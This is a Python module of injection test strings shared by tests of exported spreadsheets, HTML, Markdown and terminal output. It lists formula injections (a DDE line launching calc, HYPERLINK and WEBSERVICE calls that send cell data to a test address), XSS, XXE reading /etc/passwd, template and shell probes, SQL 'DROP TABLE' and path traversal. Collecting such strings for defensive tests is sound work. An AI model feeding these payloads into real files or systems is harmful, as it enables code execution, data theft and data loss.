"""Texts that a program, an office suite, a browser or a terminal might take for more than text: one list for all tests.

Every payload that could run sets ``window.__hit`` (a browser test reads it) or is a call that a
spreadsheet would make; the others break a format that is written carelessly.
"""

from __future__ import annotations

HIT = "window.__hit=1"

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "\u202e=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://192.0.2.1/?"&A1,"看")',
    '=WEBSERVICE("http://192.0.2.1/")',
    "{=1+1}",
    "'=1+1",
)
"""What a spreadsheet might reckon."""

MARKUP = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f'"><svg onload={HIT}>',
    f"'><svg/onload={HIT}>",
    f"</style><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"--><script>{HIT}</script><!--",
    f"]]><script>{HIT}</script>",
    f"</textarea></select></table><img src=x onerror={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT.removeprefix('window.')}</script>'></iframe>",
    f"<a href=javascript:{HIT}>点</a>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{HIT}</script></svg>",
    f"<svg><foreignObject><body onload={HIT}></foreignObject></svg>",
    "<svg><image href='http://192.0.2.1/x.png'/></svg>",
    "<style>body{background:url(http://192.0.2.1/x)}</style>",
    "<link rel=stylesheet href=http://192.0.2.1/x.css>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<base href=http://192.0.2.1/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://localhost/etc/passwd'>]>&e;",
    "<?xml version='1.0'?>",
    "&lt;b&gt;",
    "&#60;script&#62;",
    f'" onmouseover="{HIT}" x="',
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
)
"""What a browser might run or fetch."""

MARKDOWN = (
    f"[点](javascript:{HIT})",
    "![图](http://192.0.2.1/x.png)",
    "<http://192.0.2.1/>",
    "http://192.0.2.1/x",
    "www.example.com",
    "someone@example.com",
    f"[x]: javascript:{HIT}",
    "`code` **b** _i_ ~~s~~",
    "# 标题",
    "- 项",
    "1. 项",
    "> 引",
    "| a | b |",
    "---",
    "```",
    "$\\frac{1}{2}$",
    f"$$\\href{{javascript:{HIT}}}{{x}}$$",
    f"\\(\\href{{javascript:{HIT}}}{{x}}\\)",
    "$\\sum$ 分",
    "$",
)
"""What Markdown, MathJax or Matplotlib might set."""

LETTERS = (
    "零\x00零",
    "警\x07铃\x08\x0b\x0c\x0e\x1f\x7f",
    "\x1b[31m红\x1b[0m\x1b]0;title\x07\x1b[2J",
    "\x9b31m红\x9d0;t\x9c\x85",
    "孤\ud800立\udfff\udc80",
    "非字\ufffe\uffff\ufdd0",
    "\u202e倒\u202c\u2066序\u2069\u200f",
    "零\u200b宽\u2060连\ufeff",
    "行\u2028段\u2029",
    "一行\r\n二行\n三行\x85四行\v五行",
    "_x000D_ _x0041_ _x0000_ _xD800_",
    "[red]三[/red] [link=http://192.0.2.1/]看[/link]",
    "长" * 40_000,
    "e" + "\u0301" * 200,
    "🀄\U0001f468\u200d\U0001f469",
)
"""Letters that a format forbids, that move a terminal's cursor, or that turn the reading order round."""

FORMATS = (
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{# x #}",
    "{0.__class__} {} {name!r} {",
    "%s %(x)d %n %",
    "${HOME} $(id) `id`",
    "\\N{BULLET} \\u0041 \\x1b",
    "'; DROP TABLE scenarios; --",
)
"""What a template or a format might fill in."""

NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\x:y",
    "CON",
    "nul.txt",
    "COM1",
    "COM¹",
    "名 . ",
    "..",
    ".",
    "~",
    "-rf",
    ".隐藏",
    "a\x00b",
    "a\nb",
    "名" * 300,
    "Sheet'1",
    "[a]:?*/\\",
    "'引'",
    "三十一个字以上的工作表名称三十一个字以上的工作表名称三十一个字以上",
    'a"b<c>d|e',
)
"""What a file system or a workbook refuses as a name."""

PAYLOADS = (*FORMULAS, *MARKUP, *MARKDOWN, *LETTERS, *FORMATS, *NAMES)

POLYGLOT = (
    f"=1+1\"'><script>{HIT}</script></title></style><img src=x onerror={HIT}>[x](javascript:{HIT})"
    "$\\frac{1}{2}$\x1b[31m\x00\ud800\u202e{{ 7*7 }}{0.__class__}%s../\\:*?"
)
"""All at once, for what there is only one of: a title, an addressee."""
